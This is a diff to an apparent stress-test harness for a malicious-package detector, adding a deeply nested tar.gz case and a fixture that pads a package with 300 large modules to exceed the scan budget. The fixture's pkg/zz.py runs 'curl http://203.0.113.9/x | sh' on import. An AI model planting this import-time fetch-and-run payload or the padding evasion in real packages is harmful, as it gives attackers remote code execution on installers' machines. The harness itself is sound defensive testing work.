@@ -68,6 +68,12 @@ def many_members(tmp: Path) -> Path:
                                           for i in range(30_000)])
 
 
+def deep_distinct_paths(tmp: Path) -> Path:
+    """75 KB of tar.gz whose 3,000 names each imply 2,000 new folders."""
+    return _tar(tmp / "deep-1.0.tar.gz", [(f"deep-1.0/d{i}/" + "a/" * 2000 + "x.py", b"x\n")
+                                          for i in range(3000)])
+
+
 def _files(text: str) -> dict[str, str]:
     return {"setup.py": text}
 
@@ -90,9 +96,18 @@ FILE_CASES = {
     "tiny statements (1 MB)": lambda: _files("x=1;" * 250_000),
     "many files": lambda: {f"pkg/m{i}.py": "import os\nx = os.path.join('a', 'b')\n"
                            for i in range(3000)},
+    # 300 call-only modules (18 MB) pad the package past the budget; the payload runs
+    # at import from a module __init__.py imports: scanned first, still flagged
+    "call-only padding + import payload": lambda: {
+        "pkg/__init__.py": "from .zz import run\nrun()\n",
+        "pkg/zz.py": "import os\ndef run():\n    os.system('curl http://203.0.113.9/x | sh')\n",
+        **{f"pkg/util/m{i:03}.py": "".join(
+            f"def helper_{j}(a, b):\n    return [a + b * {j} for _ in range(3)]\n"
+            for j in range(1000)) for i in range(300)}},
 }
 ARCHIVE_CASES = {"zip bomb": zip_bomb, "pax header bomb (.tar.bz2)": pax_header_bomb,
-                 "duplicate members": duplicate_members, "many members": many_members}
+                 "duplicate members": duplicate_members, "many members": many_members,
+                 "deep distinct paths": deep_distinct_paths}
 
 
 def _run(kind: str, name: str, out) -> None:
@@ -107,9 +122,9 @@ def _run(kind: str, name: str, out) -> None:
         result = scan_path(subject) if kind == "archive" else scan_files(subject)
         cpu = time.process_time() - start
         extra = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
-    from detector.code.rules import catalogue
+    from detector.code.scan import is_decisive
 
-    decisive = sorted({f.rule for f in result.findings if catalogue()[f.rule].decisive})
+    decisive = sorted({f.rule for f in result.findings if is_decisive(f)})
     out.send((cpu, extra, result.flagged, ", ".join(decisive) or "-"))
 
 
